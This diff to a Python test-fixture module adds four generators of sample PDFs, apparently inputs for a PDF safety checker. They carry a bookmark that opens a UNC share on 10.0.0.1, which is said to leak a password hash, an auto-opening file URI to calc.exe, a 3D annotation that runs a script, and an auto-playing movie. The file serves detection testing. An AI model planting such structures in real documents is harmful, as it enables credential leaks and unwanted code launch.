@@ -451,6 +451,54 @@ def launch_action(folder: Path) -> Path:
     )
 
 
+def remote_goto_action(folder: Path) -> Path:
+    """A bookmark that opens a file on a network share (and leaks a password hash)."""
+    return _with_catalog(
+        folder,
+        "gotor.pdf",
+        b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>",
+        [
+            b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
+            b"<< /Title (Lampiran) /Parent 6 0 R "
+            b"/A << /S /GoToR /F (\\\\10.0.0.1\\share\\x.pdf) /D [0 /Fit] >> >>",
+        ],
+    )
+
+
+def file_uri_link(folder: Path) -> Path:
+    """A link whose address is a local file, not a web page."""
+    return _with_catalog(
+        folder,
+        "file-uri.pdf",
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
+        [b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"],
+    )
+
+
+def three_d_script(folder: Path) -> Path:
+    """A 3D annotation whose model runs a script when it is shown."""
+    return _with_catalog(
+        folder,
+        "3d.pdf",
+        b"<< /Type /Catalog /Pages 2 0 R /Foo 6 0 R >>",
+        [
+            b"<< /Type /Annot /Subtype /3D /Rect [0 0 100 100] /3DD 7 0 R >>",
+            stream(b"U3D", b"/Type /3D /Subtype /U3D /OnInstantiate 8 0 R"),
+            stream(b"app.alert(9)"),
+        ],
+    )
+
+
+def movie_action(folder: Path) -> Path:
+    """An action that plays a movie by itself."""
+    return _with_catalog(
+        folder,
+        "movie.pdf",
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
+        [b"<< /S /Movie /T (film) >>"],
+    )
+
+
 def bookmarks_and_form(folder: Path) -> Path:
     """What office programs write: bookmarks, a web link and a plain form field."""
     objects = good_objects()
@@ -530,6 +578,10 @@ SAMPLES: dict[str, Callable[[Path], Path]] = {
     "javascript_unreferenced": javascript_unreferenced,
     "xfa_form": xfa_form,
     "launch_action": launch_action,
+    "remote_goto_action": remote_goto_action,
+    "file_uri_link": file_uri_link,
+    "three_d_script": three_d_script,
+    "movie_action": movie_action,
     "bookmarks_and_form": bookmarks_and_form,
     "text_heavy": text_heavy,
 }
